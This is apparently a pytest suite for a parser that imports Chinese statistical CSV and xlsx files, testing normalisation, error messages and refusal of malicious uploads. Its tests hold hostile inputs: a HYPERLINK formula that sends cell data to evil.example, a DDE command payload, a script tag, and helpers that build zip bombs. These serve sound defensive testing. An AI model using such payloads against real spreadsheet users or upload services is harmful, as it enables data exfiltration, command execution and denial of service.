"""Import file and JSON record checks (indicators.importing). No database.

Every corpus file is built here, in memory: CSV in UTF-8 with BOM and GBK,
invalid bytes, xlsx written by XlsxWriter and openpyxl, a macro workbook, zip
bombs, a PNG renamed .xlsx, oversize files and files over the row cap.
"""

import hashlib
import io
import json
import os
import zipfile
from decimal import Decimal

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from indicators.importing import (
    ImportFileError,
    ImportRow,
    ItemSpec,
    RowError,
    _decode_csv,
    _read_csv_text,
    _validate_table,
    parse_import_file,
    parse_import_records,
)

ITEMS = {
    spec.code: spec
    for spec in (
        ItemSpec("coal_raw", "t", "quarter"),
        ItemSpec("natural_gas", "万m³", "quarter"),
        ItemSpec("heat_purchased", "GJ", "quarter"),
        ItemSpec("electricity_grid", "万kWh", "quarter"),
        ItemSpec("energy_feedstock", "tce", "quarter"),
        ItemSpec("iva_current", "万元", "quarter"),
        ItemSpec("iva_growth_ytd", "%", "quarter", non_negative=False),
        ItemSpec("revenue_food", "亿元", "quarter"),
        ItemSpec("building_new_civil_area", "m²", "quarter"),
        ItemSpec("straw_utilized", "t", "year"),
        ItemSpec("pv_capacity", "MW", "quarter"),
    )
}

# A published example of a unified social credit code (GB 32100-2015).
VALID_CODE = "91350100M000100Y43"
_CODE_CHARS = "0123456789ABCDEFGHJKLMNPQRTUWXY"
_CODE_WEIGHTS = (1, 3, 9, 27, 19, 26, 16, 17, 20, 29, 25, 13, 8, 24, 10, 30, 28)


def _credit_code(first17: str) -> str:
    """Append the GB 32100-2015 check character."""
    total = sum(_CODE_CHARS.index(c) * w for c, w in zip(first17, _CODE_WEIGHTS, strict=True))
    return first17 + _CODE_CHARS[(31 - total % 31) % 31]


OTHER_CODE = _credit_code("91371400MA3C12345")
HEADER = ["period", "item", "value", "unit", "scope", "note"]


def _csv(rows, header=HEADER, encoding="utf-8-sig") -> bytes:
    """CSV bytes; each row is a list of cells (strings), quoted by the csv module."""
    import csv

    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def _xlsx(sheets: dict[str, list[list]], hidden=()) -> bytes:
    """An xlsx written by XlsxWriter; text stays text (no formula or number guessing)."""
    buf = io.BytesIO()
    workbook = xlsxwriter.Workbook(
        buf, {"in_memory": True, "strings_to_formulas": False, "strings_to_numbers": False}
    )
    for name, rows in sheets.items():
        sheet = workbook.add_worksheet(name)
        for r, row in enumerate(rows):
            for c, cell in enumerate(row):
                if cell is None:
                    continue
                if isinstance(cell, (int, float)) and not isinstance(cell, bool):
                    sheet.write_number(r, c, cell)
                else:
                    sheet.write_string(r, c, str(cell))
        if name in hidden:
            sheet.hide()
    for name in sheets:
        if name not in hidden:
            workbook.get_worksheet_by_name(name).activate()
            break
    workbook.close()
    return buf.getvalue()


def _zip(entries: dict[str, bytes], compresslevel=6) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buf.getvalue()


def _zeros_entry(archive: zipfile.ZipFile, name: str, megabytes: int) -> None:
    with archive.open(name, "w", force_zip64=True) as entry:
        chunk = bytes(1 << 20)
        for _ in range(megabytes):
            entry.write(chunk)


def _zip_bomb() -> bytes:
    """About 1.4 MB compressed; declares 300 MB of zeros in sheet1.xml (ratio ~220)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        _zeros_entry(archive, "xl/worksheets/sheet1.xml", 300)
    return buf.getvalue()


def _zip_large_at_normal_ratio() -> bytes:
    """260 MB uncompressed in total but a ratio below 100 (random bytes pad the archive)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        _zeros_entry(archive, "xl/worksheets/sheet1.xml", 260)
        archive.writestr("xl/media/noise.bin", os.urandom(3 << 20), zipfile.ZIP_STORED)
    return buf.getvalue()


def _errors(result) -> list[tuple[int, str, str]]:
    return [(e.line, e.column, e.code) for e in result.errors]


def _assert_bilingual(errors) -> None:
    for error in errors:
        assert error.message_zh.strip()
        assert error.message_en.strip()
        assert len(error.value) <= 100


# ---------------------------------------------------------------- accepted files


def test_utf8_csv_with_bom_imports_every_row():
    content = _csv(
        [
            ["2024Q3", "coal_raw", "1234.5", "", "", "原煤"],
            ["2024Q3", "natural_gas", "12", "万m³", VALID_CODE, ""],
            ["2024", "straw_utilized", "800", "t", "", ""],
        ]
    )
    assert content.startswith(b"\xef\xbb\xbf")

    result = parse_import_file(content, "统计.csv", ITEMS)

    assert result.errors == []
    assert result.encoding == "utf-8"
    assert result.sha256 == hashlib.sha256(content).hexdigest()
    assert result.rows == [
        ImportRow(2, "2024Q3", 2024, 3, "coal_raw", Decimal("1234.5"), "1234.5", "", "", "原煤"),
        ImportRow(3, "2024Q3", 2024, 3, "natural_gas", Decimal(12), "12", "万m³", VALID_CODE, ""),
        ImportRow(4, "2024", 2024, None, "straw_utilized", Decimal(800), "800", "t", "", ""),
    ]


@pytest.mark.parametrize(
    ("_case", "rows"),
    [
        ("one row", 1),
        ("a hundred rows", 100),
    ],
)
def test_gbk_csv_with_chinese_headers_decodes_as_gb18030(_case, rows):
    header = ["期间", "指标代码", "数值", "单位", "统计范围", "备注"]
    body = [
        [f"{2000 + i}Q1", "coal_raw", str(i), "吨", "", f"第{i}行，园区锅炉"] for i in range(rows)
    ]
    content = _csv(body, header=header, encoding="gbk")
    with pytest.raises(UnicodeDecodeError):
        content.decode("utf-8")

    result = parse_import_file(content, "data.CSV", ITEMS)

    assert result.errors == []
    assert result.encoding == "gb18030"
    assert len(result.rows) == rows
    assert result.rows[-1].note == f"第{rows - 1}行，园区锅炉"
    assert result.rows[0].original_unit == "吨"


@pytest.mark.parametrize(
    ("_case", "header"),
    [
        ("English", ["period", "item", "value"]),
        ("Chinese", ["期间", "指标代码", "数值"]),
        ("upper case and spaces", [" PERIOD ", "Item", "VALUE  "]),
        ("mixed, reordered, with extra columns", ["企业名称", "数值", "期间", "说明", "item"]),
        ("full-width spaces around Chinese", ["\u3000期间", "指标代码\u3000", " 数值 "]),
    ],
)
def test_header_names_are_matched_loosely(_case, header):
    cells = {"period": "2024Q3", "item": "coal_raw", "value": "5"}
    aliases = {"期间": "period", "指标代码": "item", "数值": "value"}
    row = []
    for name in header:
        key = name.strip().strip("\u3000").lower()
        row.append(cells.get(aliases.get(key, key), "ignored"))

    result = parse_import_file(_csv([row], header=header), "a.csv", ITEMS)

    assert result.errors == []
    assert [(r.period, r.item_code, r.value) for r in result.rows] == [
        ("2024Q3", "coal_raw", Decimal(5))
    ]


def test_error_columns_are_named_as_in_the_file():
    header = ["期间", "指标代码", "数值", "单位", "统计范围", "备注"]
    content = _csv([["2024Q3", "coal_raw", "abc", "", "", ""]], header=header)

    result = parse_import_file(content, "a.csv", ITEMS)

    assert _errors(result) == [(2, "数值", "not_a_number")]
    assert "数值" in result.errors[0].message_zh
    assert "abc" in result.errors[0].message_en


@pytest.mark.parametrize(
    ("_case", "raw", "expected"),
    [
        ("plain", "1234.5", "1234.5"),
        ("integer", "42", "42"),
        ("thousands separators", "1,234.5", "1234.5"),
        ("millions", "12,345,678", "12345678"),
        ("full-width digits", "１２.５", "12.5"),
        ("full-width comma and point", "１，２３４．５", "1234.5"),
        ("trailing spaces", "12.5   ", "12.5"),
        ("leading and trailing NBSP", "\u00a012.5\u00a0", "12.5"),
        ("ideographic space", "\u300012.5", "12.5"),
        ("explicit plus", "+7", "7"),
        ("zero", "0", "0"),
        ("leading point", ".5", "0.5"),
        ("six decimals", "0.123456", "0.123456"),
        ("trailing zeros beyond six decimals", "1.50000000", "1.5"),
        ("eighteen integer digits", "123456789012345678", "123456789012345678"),
    ],
)
def test_numbers_are_normalised(_case, raw, expected):
    content = _csv([["2024Q3", "coal_raw", raw]], header=["period", "item", "value"])

    result = parse_import_file(content, "a.csv", ITEMS)

    assert result.errors == []
    assert result.rows[0].value == Decimal(expected)
    assert result.rows[0].original_value == raw


@pytest.mark.parametrize(
    ("_case", "raw", "period", "year", "quarter", "item"),
    [
        ("canonical quarter", "2024Q3", "2024Q3", 2024, 3, "coal_raw"),
        ("lower-case q", "2024q3", "2024Q3", 2024, 3, "coal_raw"),
        ("dash", "2024-Q3", "2024Q3", 2024, 3, "coal_raw"),
        ("Chinese", "2024年第3季度", "2024Q3", 2024, 3, "coal_raw"),
        ("Chinese numeral", "2024年第三季度", "2024Q3", 2024, 3, "coal_raw"),
        ("full-width", "２０２４Ｑ１", "2024Q1", 2024, 1, "coal_raw"),
        ("spaces", " 2024 Q4 ", "2024Q4", 2024, 4, "coal_raw"),
        ("year", "2024", "2024", 2024, None, "straw_utilized"),
        ("Chinese year", "2023年", "2023", 2023, None, "straw_utilized"),
    ],
)
def test_periods_are_normalised(_case, raw, period, year, quarter, item):
    content = _csv([[raw, item, "1"]], header=["period", "item", "value"])

    result = parse_import_file(content, "a.csv", ITEMS)

    assert result.errors == []
    row = result.rows[0]
    assert (row.period, row.year, row.quarter) == (period, year, quarter)


@pytest.mark.parametrize(
    ("_case", "item", "value", "unit", "expected"),
    [
        ("kg into t", "coal_raw", "2500", "kg", "2.5"),
        ("万吨 into t", "coal_raw", "1.2", "万吨", "12000"),
        ("m³ into 万m³", "natural_gas", "8000", "m3", "0.8"),
        ("亿m³ into 万m³", "natural_gas", "0.5", "亿m³", "5000"),
        ("kWh into 万kWh", "electricity_grid", "1,200,000", "度", "120"),
        ("MWh into 万kWh", "electricity_grid", "55", "MWh", "5.5"),
        ("MJ into GJ", "heat_purchased", "1500", "MJ", "1.5"),
        ("百万千焦 is GJ", "heat_purchased", "3", "百万千焦", "3"),
        ("元 into 万元", "iva_current", "123456", "元", "12.3456"),
        ("万元 into 亿元", "revenue_food", "25000", "万元", "2.5"),
        ("same unit, other spelling", "coal_raw", "3", "吨", "3"),
        ("pass-through percent", "iva_growth_ytd", "-3.5", "%", "-3.5"),
        ("pass-through MW", "pv_capacity", "12", "MW", "12"),
        ("pass-through m²", "building_new_civil_area", "12000", "m²", "12000"),
        ("pass-through tce", "energy_feedstock", "12", "tce", "12"),
    ],
)
def test_units_are_converted_into_the_item_unit(_case, item, value, unit, expected):
    content = _csv([["2024Q3", item, value, unit]], header=["period", "item", "value", "unit"])

    result = parse_import_file(content, "a.csv", ITEMS)

    assert result.errors == []
    row = result.rows[0]
    assert row.value == Decimal(expected)
    assert (row.original_value, row.original_unit) == (value, unit)


@pytest.mark.parametrize(
    ("_case", "note"),
    [
        ("HYPERLINK", '=HYPERLINK("http://evil.example/?x="&A1,"点击")'),
        ("DDE", "=cmd|' /C calc'!A0"),
        ("at sign", "@SUM(1)"),
        ("plus", "+1"),
        ("minus", "-1+1"),
        ("tab then equals", "\t=1"),
        ("multi-line", "第一行\n第二行"),
        ("HTML", "<script>alert(1)</script>"),
    ],
)
def test_injection_strings_in_notes_stay_plain_text(_case, note):
    csv_content = _csv([["2024Q3", "coal_raw", "1", "", "", note]])
    xlsx_content = _xlsx({"data": [HEADER, ["2024Q3", "coal_raw", 1, "", "", note]]})

    for content, name in ((csv_content, "a.csv"), (xlsx_content, "a.xlsx")):
        result = parse_import_file(content, name, ITEMS)

        assert result.errors == [], name
        assert result.rows[0].note == note.strip(), name


@pytest.mark.parametrize(
    ("_case", "note", "expected"),
    [
        ("control characters removed", "a\x00b\x07c\x1bd", "abcd"),
        ("CR LF becomes LF", "a\r\nb\rc", "a\nb\nc"),
        ("tab and newline kept", "a\tb\nc", "a\tb\nc"),
        ("RTL override removed", "invoice\u202egnp.exe", "invoicegnp.exe"),
        ("outer spaces trimmed", "  备注  ", "备注"),
        ("exactly 1000 characters", "备" * 1000, "备" * 1000),
    ],
)
def test_notes_are_cleaned(_case, note, expected):
    result = parse_import_records(
        [{"period": "2024Q3", "item": "coal_raw", "value": "1", "note": note}], ITEMS
    )

    assert result.errors == []
    assert result.rows[0].note == expected


def test_blank_rows_are_skipped_and_lines_are_spreadsheet_lines():
    content = _csv(
        [
            ["2024Q1", "coal_raw", "1"],
            [],
            ["", " ", "\u00a0"],
            ["2024Q2", "coal_raw", "x"],
            ["2024Q3", "coal_raw", "3"],
        ],
        header=["period", "item", "value"],
    )

    result = parse_import_file(content, "a.csv", ITEMS)

    assert [r.line for r in result.rows] == [2, 6]
    assert _errors(result) == [(5, "value", "not_a_number")]


def test_rows_with_content_only_in_ignored_columns_are_blank():
    content = _csv(
        [["2024Q1", "coal_raw", "1", ""], ["", "", "", "合计：不导入"]],
        header=["period", "item", "value", "说明"],
    )

    result = parse_import_file(content, "a.csv", ITEMS)

    assert result.errors == []
    assert len(result.rows) == 1


def test_quoted_multiline_note_keeps_record_numbering():
    content = _csv(
        [
            ["2024Q1", "coal_raw", "1", "", "", "第一行\n第二行"],
            ["2024Q2", "coal_raw", "bad"],
        ]
    )

    result = parse_import_file(content, "a.csv", ITEMS)

    assert result.rows[0].note == "第一行\n第二行"
    assert _errors(result) == [(3, "value", "not_a_number")]


def test_scope_is_uppercased_and_enterprises_are_distinct_from_the_park():
    content = _csv(
        [
            ["2024Q3", "coal_raw", "1", "", "", ""],
            ["2024Q3", "coal_raw", "2", "", VALID_CODE.lower(), ""],
            ["2024Q3", "coal_raw", "3", "", f" {OTHER_CODE} ", ""],
        ]
    )

    result = parse_import_file(content, "a.csv", ITEMS)

    assert result.errors == []
    assert [r.scope for r in result.rows] == ["", VALID_CODE, OTHER_CODE]


def test_item_codes_are_matched_case_insensitively():
    result = parse_import_records([{"period": "2024Q3", "item": " Coal_Raw ", "value": 1}], ITEMS)

    assert result.errors == []
    assert result.rows[0].item_code == "coal_raw"


# ---------------------------------------------------------------- bad rows

# Each case: data rows under the full English header, then the expected errors
# as (line, column, code). Unlisted rows must be accepted.
_BAD_ROWS = [
    ("unknown item", [["2024Q3", "coal_rawx", "1"]], [(2, "item", "unknown_item")]),
    ("bad unit", [["2024Q3", "natural_gas", "1", "kg"]], [(2, "unit", "bad_unit")]),
    ("unknown unit", [["2024Q3", "coal_raw", "1", "桶"]], [(2, "unit", "bad_unit")]),
    ("percent item in t", [["2024Q3", "iva_growth_ytd", "1", "t"]], [(2, "unit", "bad_unit")]),
    ("text in a number", [["2024Q3", "coal_raw", "abc"]], [(2, "value", "not_a_number")]),
    ("percent sign", [["2024Q3", "iva_growth_ytd", "12.5%"]], [(2, "value", "not_a_number")]),
    ("exponent", [["2024Q3", "coal_raw", "1e5"]], [(2, "value", "not_a_number")]),
    ("bad thousands separator", [["2024Q3", "coal_raw", "1,23"]], [(2, "value", "not_a_number")]),
    ("comma as decimal point", [["2024Q3", "coal_raw", "12,5"]], [(2, "value", "not_a_number")]),
    ("inner space", [["2024Q3", "coal_raw", "1 234"]], [(2, "value", "not_a_number")]),
    ("NaN", [["2024Q3", "coal_raw", "NaN"]], [(2, "value", "not_a_number")]),
    ("dash placeholder", [["2024Q3", "coal_raw", "-"]], [(2, "value", "not_a_number")]),
    ("seven decimals", [["2024Q3", "coal_raw", "0.1234567"]], [(2, "value", "not_a_number")]),
    (
        "nineteen integer digits",
        [["2024Q3", "coal_raw", "1234567890123456789"]],
        [(2, "value", "not_a_number")],
    ),
    ("empty value", [["2024Q3", "coal_raw", ""]], [(2, "value", "missing_value")]),
    ("empty period", [["", "coal_raw", "1"]], [(2, "period", "missing_value")]),
    ("empty item", [["2024Q3", "", "1"]], [(2, "item", "missing_value")]),
    ("negative value", [["2024Q3", "coal_raw", "-5"]], [(2, "value", "negative")]),
    ("negative after conversion", [["2024Q3", "coal_raw", "-5", "kg"]], [(2, "value", "negative")]),
    ("negative growth rate is fine", [["2024Q3", "iva_growth_ytd", "-5"]], []),
    ("bad period", [["2024Q5", "coal_raw", "1"]], [(2, "period", "bad_period")]),
    ("month period", [["2024-07", "coal_raw", "1"]], [(2, "period", "bad_period")]),
    ("year out of range", [["1024Q1", "coal_raw", "1"]], [(2, "period", "bad_period")]),
    (
        "year period for a quarterly item",
        [["2024", "coal_raw", "1"]],
        [(2, "period", "period_frequency")],
    ),
    (
        "quarter period for a yearly item",
        [["2024Q4", "straw_utilized", "1"]],
        [(2, "period", "period_frequency")],
    ),
    (
        "bad check character",
        [["2024Q3", "coal_raw", "1", "", VALID_CODE[:-1] + "4"]],
        [(2, "scope", "bad_scope")],
    ),
    ("scope too short", [["2024Q3", "coal_raw", "1", "", "9137140"]], [(2, "scope", "bad_scope")]),
    (
        "letter O is not allowed",
        [["2024Q3", "coal_raw", "1", "", "91350100MO00100Y43"]],
        [(2, "scope", "bad_scope")],
    ),
    (
        "note too long",
        [["2024Q3", "coal_raw", "1", "", "", "x" * 1001]],
        [(2, "note", "note_too_long")],
    ),
    (
        "kWh into 万kWh needs a seventh decimal place",
        [["2024Q3", "electricity_grid", "0.001", "度"], ["2024Q4", "electricity_grid", "1", "度"]],
        [(2, "value", "conversion_precision")],
    ),
    (
        "亿元 into 万元 would pass 18 integer digits",
        [["2024Q3", "iva_current", "123456789012345678", "亿元"]],
        [(2, "value", "conversion_precision")],
    ),
    (
        "duplicate rows",
        [
            ["2024Q1", "coal_raw", "1"],
            ["2024Q3", "coal_raw", "1"],
            ["2024Q2", "coal_raw", "1"],
            ["2024Q4", "coal_raw", "1"],
            ["2025Q1", "coal_raw", "1"],
            ["2024Q3", "coal_raw", "2"],
        ],
        [(7, "", "duplicate")],
    ),
    (
        "duplicate after normalising period, unit and scope",
        [
            ["2024Q3", "coal_raw", "1000", "kg", VALID_CODE],
            ["2024年第3季度", "coal_raw", "1", "t", VALID_CODE.lower()],
        ],
        [(3, "", "duplicate")],
    ),
    (
        "every error of a row and of every row",
        [
            ["2024Q9", "nope", "abc", "", "bad", "x" * 1001],
            ["2024Q3", "coal_raw", "-1"],
            ["2024Q3", "coal_raw", "1"],
        ],
        [
            (2, "period", "bad_period"),
            (2, "item", "unknown_item"),
            (2, "value", "not_a_number"),
            (2, "scope", "bad_scope"),
            (2, "note", "note_too_long"),
            (3, "value", "negative"),
            (4, "", "duplicate"),
        ],
    ),
]


@pytest.mark.parametrize(("_case", "rows", "expected"), _BAD_ROWS)
def test_bad_rows_are_reported(_case, rows, expected):
    result = parse_import_file(_csv(rows), "a.csv", ITEMS)

    assert _errors(result) == expected
    _assert_bilingual(result.errors)
    bad_lines = {line for line, _, _ in expected}
    assert sorted(r.line for r in result.rows) == [
        line for line in range(2, len(rows) + 2) if line not in bad_lines
    ]


def test_duplicate_message_names_both_lines():
    rows = [["2024Q1", "coal_raw", "1"]] * 1 + [[f"2024Q{q}", "coal_raw", "1"] for q in (2, 3, 4)]
    rows += [["2025Q1", "coal_raw", "1"], ["2024Q2", "coal_raw", "9"]]

    result = parse_import_file(_csv(rows), "a.csv", ITEMS)

    (error,) = result.errors
    assert (error.line, error.column, error.code) == (7, "", "duplicate")
    assert "第3行与第7行重复" in error.message_zh
    assert "line 7 duplicates line 3" in error.message_en


@pytest.mark.parametrize(
    ("_case", "rows", "column", "fragment_zh", "fragment_en"),
    [
        ("unknown item names the code", [["2024Q3", "coalraw", "1"]], "item", "coalraw", "coalraw"),
        ("bad unit names both units", [["2024Q3", "natural_gas", "1", "kg"]], "unit", "万m³", "kg"),
        ("percent explains", [["2024Q3", "coal_raw", "5%"]], "value", "百分号", "percent"),
        ("exponent explains", [["2024Q3", "coal_raw", "1E3"]], "value", "科学计数法", "scientific"),
        ("decimals explain", [["2024Q3", "coal_raw", "1.1234567"]], "value", "6 位", "6 decimal"),
        (
            "frequency explains",
            [["2024Q1", "straw_utilized", "1"]],
            "period",
            "年度",
            "per year",
        ),
        (
            "scope check character",
            [["2024Q3", "coal_raw", "1", "", VALID_CODE[:-1] + "0"]],
            "scope",
            "校验码",
            "check character",
        ),
        (
            "note length",
            [["2024Q3", "coal_raw", "1", "", "", "y" * 1200]],
            "note",
            "1000",
            "1000",
        ),
    ],
)
def test_messages_explain_the_problem(_case, rows, column, fragment_zh, fragment_en):
    result = parse_import_file(_csv(rows), "a.csv", ITEMS)

    (error,) = result.errors
    assert error.column == column
    assert fragment_zh in error.message_zh
    assert fragment_en in error.message_en
    assert f"第{error.line}行" in error.message_zh
    assert f"Line {error.line}" in error.message_en


def test_offending_value_is_truncated_to_100_characters():
    result = parse_import_file(_csv([["2024Q3", "coal_raw", "x" * 500]]), "a.csv", ITEMS)

    (error,) = result.errors
    assert error.code == "not_a_number"
    assert len(error.value) == 100
    assert len(error.message_zh) < 200


# ---------------------------------------------------------------- whole-file refusals


def _macro_workbook() -> bytes:
    """A .xlsm-like package: a real workbook plus xl/vbaProject.bin."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx({"data": [HEADER]})))
    entries = {name: source.read(name) for name in source.namelist()}
    entries["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + bytes(512)
    return _zip(entries)


def _too_many_entries() -> bytes:
    entries = {"[Content_Types].xml": b"<Types/>"}
    entries.update({f"xl/media/image{i}.png": b"x" for i in range(201)})
    return _zip(entries)


_PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)
_XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024)
_MOJIBAKE_HEADER = "期间,指标代码,数值".encode().decode("gbk", "replace")


@pytest.mark.parametrize(
    ("_case", "build", "filename", "kwargs", "code", "fragment_zh", "fragment_en"),
    [
        (
            "invalid bytes",
            lambda: b"\xff\xfe\x00\x81",
            "a.csv",
            {},
            "encoding",
            "无法识别文件编码",
            "encoding",
        ),
        (
            "UTF-16 text",
            lambda: "period,item,value\n2024Q3,coal_raw,1\n".encode("utf-16-le"),
            "a.csv",
            {},
            "encoding",
            "UTF-8 或 GBK",
            "UTF-8 or GBK",
        ),
        (
            "mojibake header",
            lambda: (_MOJIBAKE_HEADER + "\n2024Q3,coal_raw,1\n").encode("utf-8"),
            "a.csv",
            {},
            "missing_columns",
            "表头不匹配",
            "Header mismatch",
        ),
        (
            "missing value column",
            lambda: _csv([["2024Q3", "coal_raw"]], header=["period", "item"]),
            "a.csv",
            {},
            "missing_columns",
            "value（数值）",
            "value (数值)",
        ),
        (
            "the same column twice",
            lambda: _csv(
                [["2024Q3", "coal_raw", "1", "2"]], header=["期间", "item", "value", "数值"]
            ),
            "a.csv",
            {},
            "duplicate_columns",
            "数值",
            "value",
        ),
        ("empty file", lambda: b"", "a.csv", {}, "empty", "空", "empty"),
        ("only blank lines", lambda: b"\r\n\r\n,,\r\n", "a.csv", {}, "empty", "空", "empty"),
        (
            "header only",
            lambda: _csv([], header=["period", "item", "value"]),
            "a.csv",
            {},
            "empty",
            "没有数据行",
            "no data rows",
        ),
        ("PNG renamed .xlsx", lambda: _PNG, "a.xlsx", {}, "not_xlsx", ".xlsx", ".xlsx"),
        ("xls renamed .xlsx", lambda: _XLS, "a.xlsx", {}, "not_xlsx", ".xls", ".xls"),
        (
            "a zip that is no workbook",
            lambda: _zip({"readme.txt": b"hello"}),
            "a.xlsx",
            {},
            "not_xlsx",
            ".xlsx",
            ".xlsx",
        ),
        (
            "a truncated workbook",
            lambda: _xlsx({"data": [HEADER]})[:300],
            "a.xlsx",
            {},
            "not_xlsx",
            ".xlsx",
            ".xlsx",
        ),
        ("macro workbook", _macro_workbook, "a.xlsx", {}, "macro", "宏", "macros"),
        ("zip bomb", _zip_bomb, "a.xlsx", {}, "zip_bomb", "压缩", "zip bomb"),
        (
            "zip bomb by ratio alone",
            lambda: _zip(
                {"[Content_Types].xml": b"<Types/>", "xl/worksheets/s.xml": bytes(20 << 20)}
            ),
            "a.xlsx",
            {},
            "zip_bomb",
            "压缩",
            "zip bomb",
        ),
        (
            "uncompressed total over 250 MB at a normal ratio",
            _zip_large_at_normal_ratio,
            "a.xlsx",
            {},
            "zip_bomb",
            "压缩",
            "zip bomb",
        ),
        ("more than 200 entries", _too_many_entries, "a.xlsx", {}, "zip_bomb", "压缩", "zip bomb"),
        (
            "workbook uploaded as .csv",
            lambda: _xlsx({"data": [HEADER]}),
            "a.csv",
            {},
            "not_csv",
            ".xlsx",
            ".xlsx",
        ),
        ("xls extension", lambda: _XLS, "a.xls", {}, "unsupported_type", ".csv", ".csv"),
        ("xlsm extension", _macro_workbook, "a.xlsm", {}, "unsupported_type", ".xlsx", ".xlsx"),
        ("no extension", lambda: b"period", "statistics", {}, "unsupported_type", "csv", "csv"),
        ("text file", lambda: b"period", "a.txt", {}, "unsupported_type", "csv", "csv"),
        (
            "50 MB CSV over the default 20 MB",
            lambda: b"period,item,value\r\n" + b"x" * (50 * 1024 * 1024),
            "a.csv",
            {},
            "too_large",
            "20 MB",
            "20 MB",
        ),
        (
            "one byte over a small limit",
            lambda: b"x" * 2049,
            "a.csv",
            {"max_bytes": 2048},
            "too_large",
            "2 KB",
            "2 KB",
        ),
        (
            "over a small row cap",
            lambda: _csv([[f"{2000 + i}Q1", "coal_raw", "1"] for i in range(6)]),
            "a.csv",
            {"max_rows": 5},
            "too_many_rows",
            "5",
            "5",
        ),
        (
            "over a small row cap in xlsx",
            lambda: _xlsx(
                {"data": [HEADER] + [[f"{2000 + i}Q1", "coal_raw", 1] for i in range(6)]}
            ),
            "a.xlsx",
            {"max_rows": 5},
            "too_many_rows",
            "5",
            "5",
        ),
    ],
)
def test_whole_file_refusals(_case, build, filename, kwargs, code, fragment_zh, fragment_en):
    content = build()

    with pytest.raises(ImportFileError) as caught:
        parse_import_file(content, filename, ITEMS, **kwargs)

    error = caught.value
    assert error.code == code
    assert error.message_zh.strip()
    assert error.message_en.strip()
    assert fragment_zh in error.message_zh
    assert fragment_en in error.message_en


def test_too_large_is_refused_before_reading_and_answers_413():
    content = b"\xff" * (20 * 1024 * 1024 + 1)

    with pytest.raises(ImportFileError) as caught:
        parse_import_file(content, "a.csv", ITEMS)

    assert caught.value.code == "too_large"
    assert caught.value.status_code == 413


def test_zip_bomb_is_refused_before_any_parser_runs(monkeypatch):
    import python_calamine

    def refuse(*args, **kwargs):
        raise AssertionError("the parser must not run")

    monkeypatch.setattr(python_calamine, "CalamineWorkbook", refuse)
    monkeypatch.setattr(openpyxl, "load_workbook", refuse)

    with pytest.raises(ImportFileError) as caught:
        parse_import_file(_zip_bomb(), "a.xlsx", ITEMS)

    assert caught.value.code == "zip_bomb"


def test_default_row_cap_refuses_100001_rows():
    rows = [[f"{2000 + i % 100}Q{i % 4 + 1}", "coal_raw", str(i)] for i in range(100_001)]
    content = _csv(rows, header=["period", "item", "value"])

    with pytest.raises(ImportFileError) as caught:
        parse_import_file(content, "a.csv", ITEMS)

    assert caught.value.code == "too_many_rows"
    assert "100000" in caught.value.message_zh
    assert "100000" in caught.value.message_en
    assert "100001" in caught.value.message_en


def test_row_cap_counts_data_rows_only():
    rows = [[f"{2000 + i}Q1", "coal_raw", "1"] for i in range(5)] + [[], ["", "", ""]]

    result = parse_import_file(_csv(rows), "a.csv", ITEMS, max_rows=5)

    assert result.errors == []
    assert len(result.rows) == 5


# ---------------------------------------------------------------- xlsx


def test_xlsx_values_are_read_as_text_and_numbers_exactly():
    content = _xlsx(
        {
            "data": [
                ["期间", "指标代码", "数值", "单位", "统计范围", "备注"],
                ["2024Q3", "coal_raw", 1234.5, "吨", VALID_CODE, "Excel 数字"],
                [2024, "straw_utilized", 800, "", "", None],
                ["2024Q3", "iva_growth_ytd", 0.1 + 0.2, "", "", ""],
                ["2024Q3", "natural_gas", "1,234.5", "万m³", "", "文本数字"],
                ["2024Q3", "electricity_grid", -0.0, "", "", ""],
            ]
        }
    )

    result = parse_import_file(content, "报表.xlsx", ITEMS)

    assert result.errors == []
    assert result.encoding == "xlsx"
    assert result.sheet == "data"
    assert [(r.line, r.period, r.item_code, r.value, r.original_value) for r in result.rows] == [
        (2, "2024Q3", "coal_raw", Decimal("1234.5"), "1234.5"),
        (3, "2024", "straw_utilized", Decimal(800), "800"),
        (4, "2024Q3", "iva_growth_ytd", Decimal("0.3"), "0.3"),
        (5, "2024Q3", "natural_gas", Decimal("1234.5"), "1,234.5"),
        (6, "2024Q3", "electricity_grid", Decimal(0), "0"),
    ]


def test_xlsx_bad_cells_are_reported_with_the_spreadsheet_line_and_header():
    content = _xlsx(
        {
            "数据": [
                ["期间", "指标代码", "数值"],
                ["2024Q3", "coal_raw", "abc"],
                [None, None, None],
                ["2024Q4", "coal_raw", -1],
                ["2024Q3", "unknown", 1],
            ]
        }
    )

    result = parse_import_file(content, "a.xlsx", ITEMS)

    assert _errors(result) == [
        (2, "数值", "not_a_number"),
        (4, "数值", "negative"),
        (5, "指标代码", "unknown_item"),
    ]
    _assert_bilingual(result.errors)


def test_xlsx_formula_cell_without_cached_value_is_an_error():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "data"
    sheet.append(["period", "item", "value", "note"])
    sheet.append(["2024Q1", "coal_raw", 10, ""])
    sheet.append(["2024Q2", "coal_raw", "=1+1", ""])  # openpyxl stores no cached value
    sheet.append(["2024Q3", "coal_raw", 5, '=CONCAT("a","b")'])
    sheet.append(["2024Q4", "coal_raw", 7, ""])
    buf = io.BytesIO()
    workbook.save(buf)

    result = parse_import_file(buf.getvalue(), "a.xlsx", ITEMS)

    assert _errors(result) == [
        (3, "value", "formula_without_value"),
        (4, "note", "formula_without_value"),
    ]
    assert "公式" in result.errors[0].message_zh
    assert "formula" in result.errors[0].message_en
    _assert_bilingual(result.errors)
